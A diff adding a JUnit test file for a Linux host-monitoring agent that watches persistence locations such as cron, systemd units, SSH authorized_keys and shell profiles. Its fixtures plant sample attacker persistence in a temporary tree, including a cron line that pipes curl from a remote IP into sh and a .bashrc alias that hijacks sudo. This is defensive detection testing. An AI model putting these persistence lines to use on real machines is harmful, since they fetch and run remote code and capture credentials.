@@ -1,0 +1,290 @@
+package bzh.vigie.agent.persistence;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertNotEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import bzh.vigie.agent.host.FileWatch;
+import bzh.vigie.agent.host.Machine;
+import bzh.vigie.agent.host.PasswdAccounts;
+import bzh.vigie.agent.host.Reading;
+import bzh.vigie.agent.host.linux.LinuxFileWatch;
+import bzh.vigie.agent.host.linux.LinuxFiles;
+import bzh.vigie.event.Event;
+import bzh.vigie.event.Event.Change;
+import bzh.vigie.event.Event.ItemSeen;
+import bzh.vigie.event.Event.LocationRead;
+import bzh.vigie.event.InventoryDigest;
+import bzh.vigie.event.LocationStatus.State;
+import bzh.vigie.event.LocationStatus.Trigger;
+import bzh.vigie.event.Observed;
+import bzh.vigie.event.ReasonCode;
+import bzh.vigie.event.WatchState;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** The inventory over a real tree with real notifications. */
+class InventoryTest {
+    private static final String CRON = "linux.cron.d";
+
+    @TempDir
+    Path folder;
+
+    Path root;
+    Path state;
+    final Collected events = new Collected();
+    private final List<AutoCloseable> open = new ArrayList<>();
+
+    @BeforeEach
+    void makeAMachine() throws IOException {
+        root = Files.createDirectories(folder.resolve("root"));
+        state = folder.resolve("state");
+        Trees.write(root, "/etc/passwd", "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n");
+        Trees.write(root, "/etc/cron.d/job", "* * * * * root /usr/bin/true\n");
+        Files.createDirectories(root.resolve("home/alice"));
+    }
+
+    @AfterEach
+    void close() throws Exception {
+        for (AutoCloseable each : open.reversed()) {
+            each.close();
+        }
+    }
+
+    @Test
+    void theFirstPassListsEverythingAsPresent() throws IOException {
+        Inventory inventory = start(true);
+        awaitFirstPass(inventory);
+        ItemSeen seen = events.items(CRON).getFirst();
+        LocationRead read = events.reads(CRON).getFirst();
+        assertEquals(Change.PRESENT, seen.change());
+        assertEquals(seen.reading(), read.reading());
+        assertTrue(read.completeListing());
+        assertEquals(State.READ, read.status().state());
+        assertEquals(1, read.status().items());
+        assertEquals(Trigger.PASS, read.status().trigger());
+        assertEquals(
+                WatchState.LIVE,
+                ((Event.Coverage) events.await(e -> e instanceof Event.Coverage c && c.subject().equals(CRON))).state());
+        for (Location location : Catalogue.linux()) {
+            assertFalse(events.reads(location.id()).isEmpty(), location.id());
+        }
+    }
+
+    @Test
+    void whatIsPlantedChangedAndRemovedIsToldAtOnce() throws IOException {
+        Inventory inventory = start(true);
+        awaitFirstPass(inventory);
+        events.forget();
+        Path planted = Trees.write(root, "/etc/cron.d/planted", "* * * * * root curl http://203.0.113.1/|sh\n");
+        ItemSeen added = events.awaitItem(CRON, Change.ADDED);
+        assertEquals("/etc/cron.d/planted", added.item().source());
+        Files.writeString(planted, "5 * * * * root curl http://203.0.113.1/|sh\n");
+        ItemSeen changed = events.awaitItem(CRON, Change.CHANGED);
+        assertEquals(added.item().key(), changed.item().key());
+        assertEquals(added.item().value(), changed.before().orElseThrow().value());
+        Files.delete(planted);
+        ItemSeen removed = events.awaitItem(CRON, Change.REMOVED);
+        assertEquals(changed.item(), removed.before().orElseThrow());
+        LocationRead read = (LocationRead) events.await(e ->
+                e instanceof LocationRead r && r.reading() == removed.reading());
+        assertFalse(read.completeListing());
+        assertEquals(Trigger.NOTIFICATION, read.status().trigger());
+    }
+
+    @Test
+    void aPlaceThatDidNotExistIsNoticedWhenItAppears() throws IOException {
+        Inventory inventory = start(true);
+        awaitFirstPass(inventory);
+        events.forget();
+        Trees.write(root, "/etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/x\n");
+        assertEquals(
+                "x.service:ExecStart",
+                events.awaitItem("linux.systemd.service", Change.ADDED).item().name());
+        Trees.write(root, "/etc/systemd/system/x.service.d/o.conf", "[Service]\nExecStop=/tmp/y\n");
+        events.awaitItem("linux.systemd.drop-in", Change.ADDED);
+        Trees.write(root, "/home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA a\n");
+        ItemSeen key = events.awaitItem("linux.ssh.authorized-keys", Change.ADDED);
+        assertEquals("alice", key.item().account().orElseThrow().name());
+    }
+
+    @Test
+    void aHomeThatComesLaterIsWatchedToo() throws IOException {
+        Inventory inventory = start(true);
+        awaitFirstPass(inventory);
+        events.forget();
+        Files.createDirectories(root.resolve("home/bob"));
+        events.await(e -> e instanceof LocationRead read
+                && read.status().account().filter(a -> a.name().equals("bob")).isPresent()
+                && read.status().location().equals("linux.shell.user-profile"));
+        Trees.write(root, "/home/bob/.bashrc", "alias sudo=/tmp/sudo\n");
+        ItemSeen seen = events.awaitItem("linux.shell.user-profile", Change.ADDED);
+        assertEquals("-/bob", seen.item().account().orElseThrow().id());
+    }
+
+    @Test
+    void aUserCrontabThatComesAndGoesIsOfItsAccount() throws IOException {
+        Files.createDirectories(root.resolve("var/spool/cron/crontabs"));
+        Inventory inventory = start(true);
+        awaitFirstPass(inventory);
+        events.forget();
+        Path table = Trees.write(root, "/var/spool/cron/crontabs/alice", "* * * * * /tmp/x\n");
+        ItemSeen added = events.awaitItem("linux.cron.user", Change.ADDED);
+        assertEquals("1000", added.item().account().orElseThrow().id());
+        Files.delete(table);
+        events.awaitItem("linux.cron.user", Change.REMOVED);
+    }
+
+    @Test
+    void aRestartTellsOnlyWhatChangedMeanwhile() throws Exception {
+        awaitFirstPass(start(true));
+        long readings = events.reads(CRON).getFirst().reading();
+        close();
+        open.clear();
+        events.forget();
+        Trees.write(root, "/etc/cron.d/meanwhile", "* * * * * root /tmp/y\n");
+        Files.writeString(root.resolve("etc/cron.d/job"), "1 1 * * * root /usr/bin/true\n");
+        Inventory again = start(true);
+        awaitFirstPass(again);
+        assertEquals(
+                List.of(Change.CHANGED, Change.ADDED),
+                events.items(CRON).stream().map(ItemSeen::change).toList());
+        assertTrue(events.items(CRON).getFirst().before().isPresent());
+        assertTrue(events.reads(CRON).getFirst().reading() > readings);
+        assertEquals(List.of(), events.reads("linux.account.passwd"));
+        assertFalse(again.digests().isEmpty());
+    }
+
+    @Test
+    void aCompleteListingComesWhenItIsAskedFor() throws IOException {
+        Inventory inventory = start(true);
+        awaitFirstPass(inventory);
+        InventoryDigest.Entry before = digest(inventory);
+        events.forget();
+        inventory.listCompletely(CRON, "");
+        inventory.listCompletely("no.such.location", "");
+        LocationRead read = (LocationRead)
+                events.await(e -> e instanceof LocationRead r && r.status().location().equals(CRON));
+        assertTrue(read.completeListing());
+        assertEquals(Trigger.REQUEST, read.status().trigger());
+        assertEquals(before.digest(), read.digest());
+        assertEquals(List.of(Change.PRESENT), events.items(CRON).stream().map(ItemSeen::change).toList());
+    }
+
+    @Test
+    void whatCannotBeReadIsNeverToldAsRemoved() throws Exception {
+        Path job = root.resolve("etc/cron.d/job");
+        Inventory inventory = start(true);
+        awaitFirstPass(inventory);
+        InventoryDigest.Entry before = digest(inventory);
+        events.forget();
+        Files.delete(job);
+        fifo(job);
+        LocationRead read = (LocationRead) events.await(e -> e instanceof LocationRead r
+                && r.status().location().equals(CRON)
+                && r.status().state() == State.UNREADABLE);
+        assertEquals(ReasonCode.FAILED, read.status().reason());
+        assertTrue(events.items(CRON).stream().noneMatch(i -> i.change() == Change.REMOVED) || wasSeenGone());
+        events.await(e -> e instanceof Event.Coverage c && c.subject().equals(CRON) && c.state() == WatchState.LIVE);
+        if (!wasSeenGone()) {
+            assertEquals(before.digest(), read.digest());
+        }
+    }
+
+    /** Between deletion and FIFO a reading may truly have found nothing. */
+    private boolean wasSeenGone() {
+        return events.reads(CRON).stream().anyMatch(r -> r.status().state() == State.READ && r.status().items() == 0);
+    }
+
+    @Test
+    void withoutNotificationsThePassFindsChangesAndTheStateSaysSo() throws IOException {
+        Inventory inventory = start(false);
+        Event.SourceState source =
+                (Event.SourceState) events.await(e -> e instanceof Event.SourceState);
+        assertEquals(WatchState.PARTIAL, source.state());
+        assertEquals(ReasonCode.FALLBACK, source.reason());
+        awaitFirstPass(inventory);
+        Event.Coverage coverage = (Event.Coverage)
+                events.await(e -> e instanceof Event.Coverage c && c.subject().equals(CRON));
+        assertEquals(WatchState.PARTIAL, coverage.state());
+        Trees.write(root, "/etc/cron.d/planted", "* * * * * root /tmp/x\n");
+        inventory.passNow();
+        events.awaitItem(CRON, Change.ADDED);
+    }
+
+    @Test
+    void coverageIsToldWhenWatchingEnds() throws Exception {
+        Inventory inventory = start(true);
+        awaitFirstPass(inventory);
+        events.forget();
+        events.anHourPasses();
+        inventory.close();
+        Event.Coverage coverage = (Event.Coverage)
+                events.await(e -> e instanceof Event.Coverage c && c.subject().equals(CRON));
+        assertTrue(coverage.lengthMicros() >= Duration.ofHours(1).toNanos() / 1_000);
+        assertEquals(
+                WatchState.DOWN,
+                ((Event.SourceState) events.await(e -> e instanceof Event.SourceState)).state());
+    }
+
+    @Test
+    void aSwappedBinaryIsAChangedItem() throws IOException {
+        Path binary = Trees.write(root, "/usr/bin/true", "one");
+        Inventory inventory = start(true);
+        awaitFirstPass(inventory);
+        events.forget();
+        Files.writeString(binary, "two");
+        inventory.passNow();
+        ItemSeen changed = events.awaitItem(CRON, Change.CHANGED);
+        assertNotEquals(changed.before().orElseThrow().sha256(), changed.item().sha256());
+    }
+
+    @Test
+    void theStateFolderHoldsNothingThatOthersMayRead() throws IOException {
+        awaitFirstPass(start(true));
+        assertTrue(PosixFilePermissions.toString(Files.getPosixFilePermissions(state)).endsWith("------"));
+    }
+
+    private InventoryDigest.Entry digest(Inventory inventory) {
+        return inventory.digests().stream()
+                .filter(e -> e.location().equals(CRON))
+                .findFirst()
+                .orElseThrow();
+    }
+
+    private void awaitFirstPass(Inventory inventory) {
+        long patience = System.nanoTime() + Duration.ofSeconds(30).toNanos();
+        while (inventory.digests().isEmpty()) {
+            assertTrue(System.nanoTime() < patience, "the first pass does not end");
+            Thread.onSpinWait();
+        }
+    }
+
+    private Inventory start(boolean watched) throws IOException {
+        LinuxFiles files = LinuxFiles.under(root.toString()).ifFound().orElseThrow();
+        Reading<FileWatch> watch = watched
+                ? LinuxFileWatch.open(files)
+                : Reading.refused(ReasonCode.NOT_SUPPORTED, "no notifications in this test");
+        Machine machine =
+                new Machine(files, new PasswdAccounts(files), path -> Observed.missed(Observed.Why.NOT_OFFERED), watch);
+        open.add(machine);
+        Inventory inventory = Inventory.open(events, events, machine, state);
+        open.add(inventory);
+        inventory.start();
+        return inventory;
+    }
+
+    private static void fifo(Path path) throws Exception {
+        assertEquals(0, new ProcessBuilder("mkfifo", path.toString()).start().waitFor());
+    }
+}
